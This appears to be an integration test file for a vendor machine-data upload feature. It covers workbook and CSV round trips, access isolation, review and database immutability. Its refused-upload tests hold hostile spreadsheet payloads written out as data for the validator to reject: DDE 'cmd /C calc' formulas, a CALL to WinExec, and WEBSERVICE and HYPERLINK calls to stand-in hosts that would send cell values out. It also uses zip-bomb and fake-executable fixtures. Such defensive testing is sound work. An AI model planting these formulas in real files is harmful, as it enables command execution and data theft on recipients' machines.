// Vendor data against the real PostgreSQL and the fake SMTP server: a request sent and
// e-mailed, the generated workbook filled with exceljs and uploaded, every refusal path
// storing nothing, company isolation, acceptance into the draft with its optimistic
// version, return with a comment, and immutability in the database itself.
import ExcelJS from "exceljs";
import { count, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeDb, getDb } from "@/db/client";
import { foundationDrafts, vendorSubmissions } from "@/db/schema";
import { getDraft } from "@/db/queries/drafts";
import { createUser } from "@/db/queries/accounts";
import { createFoundation, getOrCreateCompany, upsertMember } from "@/db/queries/projects";
import { saveDraft } from "@/db/queries/drafts";
import { machineFieldRow, rotorFieldRow } from "@/modules/vendor-data/layout";
import type { MachineInput } from "@/modules/calc/schema";
import { acceptSubmissionAction, returnSubmissionAction, sendDataRequestAction, submitMachineFormAction } from "@/app/(desk)/projects/[projectId]/requests/actions";
import { POST as postSubmission } from "@/app/api/v1/projects/[projectId]/requests/[requestId]/submissions/route";
import { POST as postDrawing } from "@/app/api/v1/projects/[projectId]/requests/[requestId]/drawings/route";
import { callAction, callRoute, cookieFor, demoEmail, getFixture, linkToken, waitForEmail, type Fixture } from "./support/fixture";
import { sampleAnalysisInput } from "./analysis-input-sample";
import yauzl from "yauzl";
import { fakeExecutable, makeZip, truncatedZip, zipBomb } from "../unit/vendor-data/zip-fixtures";
import { onePagePdf } from "../support/pdf-fixture";

const REQUEST = "v1/projects/[projectId]/requests/[requestId]";
const stamp = Date.now().toString(36);

let fx: Fixture;
let foundationId: string;
let requestId: string;
let otherVendorCookie: string;

type UploadParams = { projectId: string; requestId: string };
type Handler = (req: Request, ctx: { params: Promise<UploadParams> }) => Promise<Response>;

/** A multipart upload as the browser's XMLHttpRequest sends it. */
async function upload(handler: Handler, cookie: string | null, params: UploadParams, file: Buffer, fileName: string, fields: Record<string, string> = {}): Promise<Response> {
  const form = new FormData();
  form.append("file", new Blob([new Uint8Array(file)]), fileName);
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  const headers: Record<string, string> = { host: "127.0.0.1:3100", origin: "http://127.0.0.1:3100" };
  if (cookie) headers.cookie = cookie;
  return handler(new Request("http://127.0.0.1:3100/api/upload", { method: "POST", headers, body: form }), { params: Promise.resolve(params) });
}

const uploadData = (cookie: string | null, file: Buffer, name = "machine-data.xlsx", fields: Record<string, string> = {}) =>
  upload(postSubmission, cookie, { projectId: fx.projectId, requestId }, file, name, fields);

async function submissionCount(): Promise<number> {
  const rows = await getDb().select({ n: count() }).from(vendorSubmissions).where(eq(vendorSubmissions.requestId, requestId));
  return rows[0]?.n ?? 0;
}

async function downloadWorkbook(cookie: string | null): Promise<Buffer> {
  const res = await callRoute(`${REQUEST}/workbook`, "GET", { projectId: fx.projectId, requestId }, { cookie });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/spreadsheetml/);
  return Buffer.from(await res.arrayBuffer());
}

async function fill(bytes: Buffer, change: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  change(wb);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** Rewrites parts of an .xlsx package where exceljs cannot write what a hostile file holds. */
async function editZip(bytes: Buffer, change: (parts: Map<string, Buffer>) => void): Promise<Buffer> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  const parts = new Map<string, Buffer>();
  for await (const entry of zip.eachEntry()) {
    const chunks: Buffer[] = [];
    for await (const c of await zip.openReadStreamPromise(entry)) chunks.push(c as Buffer);
    parts.set(entry.fileName, Buffer.concat(chunks));
  }
  zip.close();
  change(parts);
  return makeZip([...parts].map(([name, data]) => ({ name, data })));
}

function sheet(wb: ExcelJS.Workbook, name: string): ExcelJS.Worksheet {
  const ws = wb.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}`);
  return ws;
}

interface ErrorBody {
  error: { code: string; message: string; issues?: { path: string; sheet: string | null; cell: string | null; message: string }[] };
}

beforeAll(async () => {
  fx = await getFixture();
  const manager = { userId: fx.userIds.manager, isAdmin: false };
  // A foundation of our own with the sample draft, so the demo's drafts stay as seeded.
  const f = await createFoundation(manager, fx.projectId, { tag: `IT-VND-${stamp}`, machineTrain: "Test fan train", location: "Test bay" });
  foundationId = f.id;
  // The machine's datum placed at the block's origin, unturned (template version 2 gives
  // positions from the machine datum): the figures read the same in both frames here, the
  // conversion itself is tested in vendor-datum.test.ts.
  const sample = sampleAnalysisInput() as unknown as { machines: { name: string }[] };
  const placements = sample.machines.map((m) => ({ machine: m.name, datum: { origin: [0, 0, 0] as [number, number, number], rotationDeg: 0 as const }, vendor: null }));
  const saved = await saveDraft(manager, fx.projectId, foundationId, { input: sampleAnalysisInput() as never, expectedVersion: 0, placements });
  expect(saved?.ok).toBe(true);
  // A vendor of another company on the same project.
  const other = await createUser({ email: `halden-${stamp}@halden-fans.test`, name: "Other Vendor" });
  await upsertMember({ projectId: fx.projectId, userId: other.id, role: "vendor", companyId: await getOrCreateCompany(`Halden Fans ${stamp}`) });
  otherVendorCookie = await cookieFor(other.id);
});

afterAll(async () => {
  await closeDb();
});

describe("a data request", () => {
  it("is sent by a designer to a vendor member, who is e-mailed a link to it", async () => {
    const draft = await getDraft({ userId: fx.userIds.designer, isAdmin: false }, fx.projectId, foundationId);
    const names = (draft?.input?.machines ?? []).map((m) => m.name).join("\n");
    const { state } = await callAction(
      sendDataRequestAction,
      { projectId: fx.projectId, foundationId, contact: `member:${fx.userIds.vendor}`, machineNames: names, message: `Integration ${stamp}`, dueOn: "2026-10-01" },
      fx.cookies.designer,
    );
    expect(state.ok).toBe(true);
    if (!state.ok) return;
    requestId = String(state.data.requestId);
    const mail = await waitForEmail(demoEmail("vendor"), `machine data requested for IT-VND-${stamp}`);
    expect(mail.text).toContain(`/projects/${fx.projectId}/requests/${requestId}`);
  });

  it("lets a manager invite a new contact by e-mail as a vendor of their company (the manager's invitation)", async () => {
    const email = `new-contact-${stamp}@brisk-motors.test`;
    const fields = { projectId: fx.projectId, foundationId, contact: "new", newEmail: email, newName: "Nia Contact", newCompany: `Brisk Motors ${stamp}`, machineNames: "Extra motor" };
    // A designer may address only vendors already on the project: adding one is the manager's.
    const byDesigner = await callAction(sendDataRequestAction, fields, fx.cookies.designer);
    expect(byDesigner.state.ok ? "allowed" : byDesigner.state.code).toBe("forbidden");
    const { state } = await callAction(sendDataRequestAction, fields, fx.cookies.manager);
    expect(state.ok).toBe(true);
    const invitation = await waitForEmail(email, "you are invited");
    expect(linkToken(invitation.text, "invite")).toMatch(/.{20,}/);
    await waitForEmail(email, "machine data requested");
  });

  it("names the fields of a request that lacks a contact's details", async () => {
    const { state } = await callAction(sendDataRequestAction, { projectId: fx.projectId, foundationId, contact: "new", machineNames: "Fan" }, fx.cookies.designer);
    expect(state.ok).toBe(false);
    if (state.ok) return;
    expect(Object.keys(state.fieldErrors ?? {})).toEqual(expect.arrayContaining(["newEmail", "newName", "newCompany"]));
  });
});

describe("the workbook round trip", () => {
  it("reads back exactly what was written into the generated workbook, keeps the original file and its SHA-256, and e-mails the designer", async () => {
    const filled = await fill(await downloadWorkbook(fx.cookies.vendor), (wb) => {
      const ws = sheet(wb, "Machine 1");
      ws.getCell(`C${machineFieldRow("mass")}`).value = 6150;
      ws.getCell(`C${machineFieldRow("cgZ")}`).value = { formula: "2.1+0.15", result: 2.25 };
      ws.getCell(`C${rotorFieldRow("mass")}`).value = 1620;
      ws.getCell(`C${rotorFieldRow("balanceGrade")}`).value = 2.5;
      ws.getCell(`C${rotorFieldRow("speedMinRpm")}`).value = 800;
      ws.getCell(`C${rotorFieldRow("speedMaxRpm")}`).value = 1180;
    });
    const before = await submissionCount();
    const res = await uploadData(fx.cookies.vendor, filled, "filled.xlsx", { note: "certified" });
    expect(res.status).toBe(201);
    const body = (await res.json()) as { submission: { version: number }; machines: MachineInput[] };
    expect(await submissionCount()).toBe(before + 1);
    const detail = await callRoute(REQUEST, "GET", { projectId: fx.projectId, requestId }, { cookie: fx.cookies.vendor });
    const { request } = (await detail.json()) as { request: { status: string; submissions: { version: number; machines: MachineInput[]; sha256: string; file: { id: string } }[] } };
    const newest = request.submissions[0];
    expect(newest?.version).toBe(body.submission.version);
    const m = newest?.machines[0];
    expect(m).toMatchObject({ mass: 6150, cg: [expect.any(Number), expect.any(Number), 2.25] });
    expect(m?.rotors[0]).toMatchObject({ mass: 1620, balanceGrade: 2.5, speedRangeRpm: [800, 1180] });
    expect(request.status).toBe("awaiting-review");
    // The original file, byte for byte, for the vendor and the designer alike.
    const { createHash } = await import("node:crypto");
    for (const cookie of [fx.cookies.vendor, fx.cookies.designer, fx.cookies.checker]) {
      const file = await callRoute("v1/projects/[projectId]/files/[fileId]", "GET", { projectId: fx.projectId, fileId: newest?.file.id ?? "" }, { cookie });
      expect(file.status).toBe(200);
      const bytes = Buffer.from(await file.arrayBuffer());
      expect(bytes.equals(filled)).toBe(true);
      expect(createHash("sha256").update(bytes).digest("hex")).toBe(newest?.sha256);
    }
    const viewer = await callRoute("v1/projects/[projectId]/files/[fileId]", "GET", { projectId: fx.projectId, fileId: newest?.file.id ?? "" }, { cookie: fx.cookies.viewer });
    expect(viewer.status).toBe(403);
    await waitForEmail(demoEmail("designer"), `version ${body.submission.version} received for IT-VND-${stamp}`);
  });

  it("reads a CSV with the same data, and a web form submission through the contract", async () => {
    const csvRes = await callRoute(`${REQUEST}/csv-template`, "GET", { projectId: fx.projectId, requestId }, { cookie: fx.cookies.vendor });
    const csv = (await csvRes.text()).replace(/^(.*\r\n[^,]*),6150,/, "$1,6200,");
    const res = await uploadData(fx.cookies.vendor, Buffer.from(csv), "data.csv");
    expect(res.status).toBe(201);
    expect(((await res.json()) as { machines: MachineInput[] }).machines[0]?.mass).toBe(6200);
    const bad = await callAction(submitMachineFormAction, { projectId: fx.projectId, requestId, machines: JSON.stringify([{ name: "Fan", mass: -5, cg: [0, 0, 2], rotors: [] }]) }, fx.cookies.vendor);
    expect(bad.state.ok).toBe(false);
    if (!bad.state.ok) expect(bad.state.fieldErrors?.["machines[0].mass"]).toEqual(["must be greater than 0"]);
  });
});

describe("refused uploads store nothing and name the problem", () => {
  const expectRefused = async (res: Response, status: number, pattern: RegExp, cell?: { sheet: string; cell: string | null }) => {
    expect(res.status).toBe(status);
    const body = (await res.json()) as ErrorBody;
    const text = [body.error.message, ...(body.error.issues ?? []).map((i) => i.message)].join(" | ");
    expect(text).toMatch(pattern);
    if (cell) expect(body.error.issues).toEqual(expect.arrayContaining([expect.objectContaining(cell)]));
  };

  it("refuses the wrong type, an oversize file, an executable renamed .xlsx, a zip bomb and a malformed zip", async () => {
    const before = await submissionCount();
    const gif = Buffer.concat([Buffer.from("GIF89a", "latin1"), Buffer.alloc(64)]);
    await expectRefused(await uploadData(fx.cookies.vendor, gif, "data.xlsx"), 400, /GIF image/);
    await expectRefused(await uploadData(fx.cookies.vendor, Buffer.alloc(6 * 1024 * 1024, 0x41), "big.csv"), 413, /at most 5\.0 MB/);
    await expectRefused(await uploadData(fx.cookies.vendor, fakeExecutable(), "machine-data.xlsx"), 400, /Windows executable/);
    await expectRefused(await uploadData(fx.cookies.vendor, zipBomb(), "bomb.xlsx"), 400, /refused unread/);
    await expectRefused(await uploadData(fx.cookies.vendor, zipBomb(1024 * 1024), "bomb.xlsx"), 400, /zip bomb/);
    await expectRefused(await uploadData(fx.cookies.vendor, truncatedZip(await downloadWorkbook(fx.cookies.vendor)), "cut.xlsx"), 400, /damaged/);
    expect(await submissionCount()).toBe(before);
  });

  it("refuses a workbook with a missing sheet, text in a number cell or a negative mass, naming sheet and cell", async () => {
    const before = await submissionCount();
    const base = await downloadWorkbook(fx.cookies.vendor);
    const missing = await fill(base, (wb) => wb.removeWorksheet(sheet(wb, "Machine 1").id));
    await expectRefused(await uploadData(fx.cookies.vendor, missing), 400, /sheet "Machine 1" is missing/, { sheet: "Machine 1", cell: null });
    const text = await fill(base, (wb) => {
      sheet(wb, "Machine 1").getCell(`C${rotorFieldRow("speedRpm")}`).value = "about 1200";
    });
    await expectRefused(await uploadData(fx.cookies.vendor, text), 400, /expected a number in rpm/, { sheet: "Machine 1", cell: `C${rotorFieldRow("speedRpm")}` });
    const negative = await fill(base, (wb) => {
      sheet(wb, "Machine 1").getCell(`C${machineFieldRow("mass")}`).value = -6000;
    });
    await expectRefused(await uploadData(fx.cookies.vendor, negative), 400, /must be greater than 0/, { sheet: "Machine 1", cell: `C${machineFieldRow("mass")}` });
    expect(await submissionCount()).toBe(before);
  });

  it("refuses formulas that reach outside the file, by sheet and cell, even with a saved value; formulas within the file pass", async () => {
    const before = await submissionCount();
    const base = await downloadWorkbook(fx.cookies.vendor);
    const massCell = `C${machineFieldRow("mass")}`;
    const cases: { formula: string; result: number | string; sheet: string; cell: string; why: RegExp }[] = [
      { formula: "cmd|' /C calc'!A0", result: 6000, sheet: "Machine 1", cell: massCell, why: /DDE link/ },
      { formula: '_xlfn.WEBSERVICE("http://collector.invalid/?m="&C5)', result: 6000, sheet: "Machine 1", cell: massCell, why: /WEBSERVICE/ },
      { formula: '_xlfn.FILTERXML("<a>6000</a>","//a")', result: 6000, sheet: "Machine 1", cell: massCell, why: /FILTERXML/ },
      { formula: "'[vendor-master.xlsx]Masses'!B4", result: 6000, sheet: "Machine 1", cell: massCell, why: /another workbook/ },
      { formula: "'C:\\data\\[x.xlsx]Sheet1'!A1", result: 6000, sheet: "Machine 1", cell: massCell, why: /another workbook/ },
      { formula: 'RTD("vendor.feed",,"mass")', result: 6000, sheet: "Machine 1", cell: massCell, why: /RTD/ },
      { formula: 'CALL("kernel32","WinExec","JCJ","calc",0)', result: 0, sheet: "Machine 1", cell: "F40", why: /CALL/ },
      { formula: 'REGISTER.ID("x","y")', result: 0, sheet: "Machine 1", cell: "H2", why: /REGISTER\.ID/ },
      { formula: '_xlfn.IMPORTXML("http://x.invalid","//a")', result: 0, sheet: "Machine 1", cell: "E3", why: /IMPORTXML/ },
      { formula: 'INDIRECT("\'[other.xlsx]S\'!A1")', result: 0, sheet: "Machine 1", cell: "E4", why: /INDIRECT/ },
      // Outside the cells the desk reads, and on a sheet it does not read at all.
      { formula: 'HYPERLINK("http://x.invalid/collect","open the drawing")', result: "open the drawing", sheet: "Read me", cell: "D1", why: /HYPERLINK/ },
    ];
    for (const c of cases) {
      const bytes = await fill(base, (wb) => {
        sheet(wb, c.sheet).getCell(c.cell).value = { formula: c.formula, result: c.result };
      });
      await expectRefused(await uploadData(fx.cookies.vendor, bytes), 400, c.why, { sheet: c.sheet, cell: c.cell });
    }
    // A shared formula: every cell that shares the master's text is named.
    const shared = await fill(base, (wb) => {
      const ws = sheet(wb, "Machine 1");
      ws.getCell("G10").value = { formula: 'WEBSERVICE("http://x.invalid/"&A10)', result: "x", shareType: "shared", ref: "G10:G11" } as ExcelJS.CellValue;
      ws.getCell("G11").value = { sharedFormula: "G10", result: "x" } as ExcelJS.CellValue;
    });
    await expectRefused(await uploadData(fx.cookies.vendor, shared), 400, /WEBSERVICE/, { sheet: "Machine 1", cell: "G11" });
    // What exceljs cannot write: a defined name standing for a web call, a raw DDE <f>, and an externalLinks part.
    const definedName = await editZip(base, (parts) => {
      const xml = parts.get("xl/workbook.xml")!.toString("utf8");
      const names = '<definedName name="Rate">_xlfn.WEBSERVICE(&quot;http://x.invalid&quot;)</definedName>';
      parts.set("xl/workbook.xml", Buffer.from(xml.includes("<definedNames>") ? xml.replace("<definedNames>", `<definedNames>${names}`) : xml.replace("</sheets>", `</sheets><definedNames>${names}</definedNames>`)));
    });
    await expectRefused(await uploadData(fx.cookies.vendor, definedName), 400, /defined name "Rate" holds the function WEBSERVICE/);
    const rawDde = await editZip(await fill(base, (wb) => {
      sheet(wb, "Machine 1").getCell(massCell).value = { formula: "1+1", result: 6000 };
    }), (parts) => {
      const name = [...parts.keys()].find((k) => /^xl\/worksheets\/sheet\d+\.xml$/.test(k) && parts.get(k)!.toString("utf8").includes("<f>1+1</f>"))!;
      parts.set(name, Buffer.from(parts.get(name)!.toString("utf8").replace("<f>1+1</f>", "<f>msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!_xlbgnm.A1</f>")));
    });
    await expectRefused(await uploadData(fx.cookies.vendor, rawDde), 400, /DDE link/, { sheet: "Machine 1", cell: massCell });
    const externalLink = await editZip(base, (parts) => {
      parts.set("xl/externalLinks/externalLink1.xml", Buffer.from('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic=" /C calc"/></externalLink>'));
    });
    await expectRefused(await uploadData(fx.cookies.vendor, externalLink), 400, /links to other workbooks/);
    expect(await submissionCount()).toBe(before);
    // Formulas within the file are still read by their saved value.
    const inside = await fill(base, (wb) => {
      const ws = sheet(wb, "Machine 1");
      const mass = ws.getCell(massCell).value as number;
      ws.getCell("F40").value = mass / 2;
      ws.getCell(massCell).value = { formula: "F40*2", result: mass };
    });
    const ok = await uploadData(fx.cookies.vendor, inside);
    expect(ok.status, await ok.clone().text()).toBe(201);
    expect(await submissionCount()).toBe(before + 1);
  });

  it("refuses a workbook of 100 000 rows quickly, before parsing it", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await downloadWorkbook(fx.cookies.vendor)) as unknown as ExcelJS.Buffer);
    const ws = sheet(wb, "Machine 1");
    for (let r = 100; r < 100_100; r++) ws.getCell(`A${r}`).value = r;
    const huge = Buffer.from(await wb.xlsx.writeBuffer());
    expect(huge.length).toBeLessThan(5 * 1024 * 1024);
    const heapBefore = process.memoryUsage().heapUsed;
    const t0 = performance.now();
    const res = await uploadData(fx.cookies.vendor, huge);
    const elapsedMs = performance.now() - t0;
    await expectRefused(res, 400, /far more rows than the machine data layout/);
    expect(elapsedMs).toBeLessThan(2000);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(150 * 1024 * 1024);
  }, 60_000);

  it("accepts a PDF drawing, refuses anything else as a drawing, and attaches drawings to the next version", async () => {
    const params = { projectId: fx.projectId, requestId };
    const pdf = onePagePdf();
    const ok = await upload(postDrawing, fx.cookies.vendor, params, pdf, "GA drawing.pdf");
    expect(ok.status).toBe(201);
    const { drawing } = (await ok.json()) as { drawing: { id: string } };
    const exe = await upload(postDrawing, fx.cookies.vendor, params, fakeExecutable(), "drawing.pdf");
    expect(exe.status).toBe(400);
    const big = await upload(postDrawing, fx.cookies.vendor, params, Buffer.alloc(26 * 1024 * 1024), "huge.pdf");
    expect(big.status).toBe(413);
    const res = await uploadData(fx.cookies.vendor, await downloadWorkbook(fx.cookies.vendor), "again.xlsx", { drawingIds: drawing.id });
    expect(res.status).toBe(201);
    const detail = (await (await callRoute(REQUEST, "GET", params, { cookie: fx.cookies.designer })).json()) as { request: { submissions: { drawings: { id: string }[] }[] } };
    expect(detail.request.submissions[0]?.drawings.map((d) => d.id)).toEqual([drawing.id]);
  });
});

describe("company isolation", () => {
  it("a vendor of another company reads nothing of this request and no design data", async () => {
    const params = { projectId: fx.projectId, requestId };
    const list = await callRoute("v1/projects/[projectId]/requests", "GET", { projectId: fx.projectId }, { cookie: otherVendorCookie });
    expect(list.status).toBe(200);
    expect(((await list.json()) as { requests: unknown[] }).requests).toEqual([]);
    for (const route of [REQUEST, `${REQUEST}/workbook`, `${REQUEST}/csv-template`]) {
      const res = await callRoute(route, "GET", params, { cookie: otherVendorCookie });
      expect(res.status, route).toBe(404);
    }
    const up = await uploadData(otherVendorCookie, await downloadWorkbook(fx.cookies.vendor));
    expect(up.status).toBe(404);
    const detail = (await (await callRoute(REQUEST, "GET", params, { cookie: fx.cookies.designer })).json()) as { request: { submissions: { file: { id: string } | null }[] } };
    const fileId = detail.request.submissions.find((s) => s.file)?.file?.id ?? "";
    expect((await callRoute("v1/projects/[projectId]/files/[fileId]", "GET", { projectId: fx.projectId, fileId }, { cookie: otherVendorCookie })).status).toBe(403);
    expect((await callRoute("v1/projects/[projectId]/foundations", "GET", { projectId: fx.projectId }, { cookie: otherVendorCookie })).status).toBe(403);
    expect((await callRoute("v1/projects/[projectId]/foundations/[foundationId]/draft", "GET", { projectId: fx.projectId, foundationId }, { cookie: otherVendorCookie })).status).toBe(403);
    const form = await callAction(submitMachineFormAction, { projectId: fx.projectId, requestId, machines: "[]" }, otherVendorCookie);
    expect(form.state).toMatchObject({ ok: false, code: "not_found" });
  });
});

describe("review", () => {
  async function newest(): Promise<{ id: string; version: number; machines: MachineInput[] }> {
    const detail = (await (await callRoute(REQUEST, "GET", { projectId: fx.projectId, requestId }, { cookie: fx.cookies.designer })).json()) as {
      request: { submissions: { id: string; version: number; machines: MachineInput[] }[] };
    };
    const s = detail.request.submissions[0];
    if (!s) throw new Error("no submission");
    return s;
  }

  it("a stale draft version is a conflict and changes nothing; the current one takes the machines into the draft", async () => {
    const designer = { userId: fx.userIds.designer, isAdmin: false };
    const draft = await getDraft(designer, fx.projectId, foundationId);
    const s = await newest();
    const stale = await callAction(acceptSubmissionAction, { projectId: fx.projectId, submissionId: s.id, draftVersion: String((draft?.version ?? 0) - 1) }, fx.cookies.designer);
    expect(stale.state).toMatchObject({ ok: false, code: "conflict" });
    expect((await getDraft(designer, fx.projectId, foundationId))?.version).toBe(draft?.version);
    const older = await getDb().select().from(vendorSubmissions).where(eq(vendorSubmissions.requestId, requestId));
    const superseded = older.find((o) => o.version < s.version);
    if (superseded) {
      const old = await callAction(acceptSubmissionAction, { projectId: fx.projectId, submissionId: superseded.id, draftVersion: String(draft?.version) }, fx.cookies.designer);
      expect(old.state).toMatchObject({ ok: false, code: "conflict", message: expect.stringMatching(/superseded/) });
    }
    const ok = await callAction(acceptSubmissionAction, { projectId: fx.projectId, submissionId: s.id, draftVersion: String(draft?.version) }, fx.cookies.designer);
    expect(ok.state.ok).toBe(true);
    const after = await getDraft(designer, fx.projectId, foundationId);
    expect(after?.version).toBe((draft?.version ?? 0) + 1);
    expect(after?.vendorSubmissionId).toBe(s.id);
    expect(after?.input?.machines).toEqual(s.machines);
    // Block and soil untouched.
    expect(after?.input?.block).toMatchObject(draft?.input?.block ?? {});
    await waitForEmail(demoEmail("vendor"), `(version ${s.version}) was accepted`);
    const twice = await callAction(acceptSubmissionAction, { projectId: fx.projectId, submissionId: s.id, draftVersion: String(after?.version) }, fx.cookies.designer);
    expect(twice.state).toMatchObject({ ok: false, code: "conflict" });
  });

  it("returns a new version with a comment and e-mails the vendor; the vendor may not review", async () => {
    const res = await uploadData(fx.cookies.vendor, await downloadWorkbook(fx.cookies.vendor), "third.xlsx");
    expect(res.status).toBe(201);
    const s = await newest();
    const byVendor = await callAction(returnSubmissionAction, { projectId: fx.projectId, submissionId: s.id, comment: "self-review" }, fx.cookies.vendor);
    expect(byVendor.state).toMatchObject({ ok: false, code: "forbidden" });
    const { state } = await callAction(returnSubmissionAction, { projectId: fx.projectId, submissionId: s.id, comment: `Bearing 2 z differs from the GA drawing ${stamp}` }, fx.cookies.designer);
    expect(state.ok).toBe(true);
    const mail = await waitForEmail(demoEmail("vendor"), `(version ${s.version}) was returned`);
    expect(mail.text).toContain(`Bearing 2 z differs from the GA drawing ${stamp}`);
  });
});

describe("immutability in the database", () => {
  it("refuses UPDATE and DELETE of a submission, whatever the code does, but lets a removed request take its versions with it", async () => {
    const db = getDb();
    const [row] = await db.select().from(vendorSubmissions).where(eq(vendorSubmissions.requestId, requestId)).limit(1);
    if (!row) throw new Error("no submission");
    await expect(db.update(vendorSubmissions).set({ note: "edited" }).where(eq(vendorSubmissions.id, row.id))).rejects.toThrow();
    await expect(db.delete(vendorSubmissions).where(eq(vendorSubmissions.id, row.id))).rejects.toThrow();
    await expect(db.execute(sql`update vendor_submissions set machines = '[]'::jsonb where id = ${row.id}`)).rejects.toThrow();
    // Nor can the original file of a version be removed from under it.
    if (row.fileId) await expect(db.execute(sql`delete from stored_files where id = ${row.fileId}`)).rejects.toThrow();
    // Removing the test foundation removes its requests, versions, reviews and files (cascade).
    await db.update(foundationDrafts).set({ vendorSubmissionId: null }).where(eq(foundationDrafts.foundationId, foundationId));
    await db.execute(sql`delete from foundations where id = ${foundationId}`);
    expect(await submissionCount()).toBe(0);
  });
});
